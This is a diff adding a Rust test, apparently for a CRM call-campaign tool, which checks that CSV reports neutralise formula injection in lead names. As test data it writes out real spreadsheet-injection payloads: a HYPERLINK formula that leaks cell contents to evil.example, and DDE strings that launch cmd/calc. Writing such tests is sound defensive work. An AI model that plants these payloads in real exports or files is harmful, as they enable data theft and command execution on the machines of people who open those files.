@@ -196,6 +196,72 @@ fn report_has_one_row_per_call_in_every_format_and_show_has_the_funnel() {
     let _ = c;
 }
 
+/// CSV injection (OWASP): lead names an attacker controls (an imported
+/// list, a CRM sync) must reach a spreadsheet as text, never as formulas.
+#[test]
+fn csv_injection_in_lead_names_is_neutralized_in_the_csv_report() {
+    let env = Env::new();
+    let c = env.campaign("inject", 0, &[]);
+    let from_file = [
+        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")",
+        "+cmd|' /C calc'!A0",
+        "-1+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+    ];
+    let mut csv = String::from("phone,name\n");
+    for (i, name) in from_file.iter().enumerate() {
+        csv.push_str(&format!(
+            "{},\"{}\"\n",
+            number(i as u32),
+            name.replace('"', "\"\"")
+        ));
+    }
+    let f = env.file("inject.csv", &csv);
+    env.ok(&["import", "inject", f.to_str().unwrap()]);
+    // Import trims names; a tab or CR in front comes from other writers.
+    let direct = ["\t=1+1", "\r=1+1"];
+    let now = jiff::Timestamp::now();
+    let mut store = env.store();
+    let leads: Vec<_> = direct
+        .iter()
+        .enumerate()
+        .map(|(i, n)| {
+            let mut l = callbridge_crm_store::NewLead::new(
+                PhoneNumber::parse(&number(10 + i as u32)).unwrap(),
+            );
+            l.name = Some(callbridge_crm_store::PersonName::new(*n).unwrap());
+            l
+        })
+        .collect();
+    store.add_leads(c.id, &leads, now).unwrap();
+    for lead in env.leads(&c) {
+        let id = callbridge_crm_store::SessionId::new_v4();
+        let mut s = callbridge_crm_store::NewSession::outbound(id, now);
+        s.campaign = Some(c.id);
+        s.lead = Some(lead.id);
+        store.create_session(&s).unwrap();
+    }
+    let out = env.ok(&["report", "inject", "--format", "csv"]);
+    let mut rdr = csv::Reader::from_reader(out.as_bytes());
+    let names: Vec<String> = rdr.records().map(|r| r.unwrap()[4].to_owned()).collect();
+    assert_eq!(names.len(), from_file.len() + direct.len(), "{out}");
+    for name in from_file.iter().chain(&direct) {
+        let quoted = format!("'{name}");
+        assert!(
+            names.contains(&quoted),
+            "{name:?} not neutralized: {names:?}"
+        );
+    }
+    let phones: Vec<String> = csv::Reader::from_reader(out.as_bytes())
+        .records()
+        .map(|r| r.unwrap()[3].to_owned())
+        .collect();
+    assert!(
+        phones.contains(&number(0)),
+        "E.164 numbers are written as is: {phones:?}"
+    );
+}
+
 #[test]
 fn paused_campaign_and_nothing_due_are_quiet_exit_0_and_bad_usage_is_exit_2() {
     let env = Env::new();
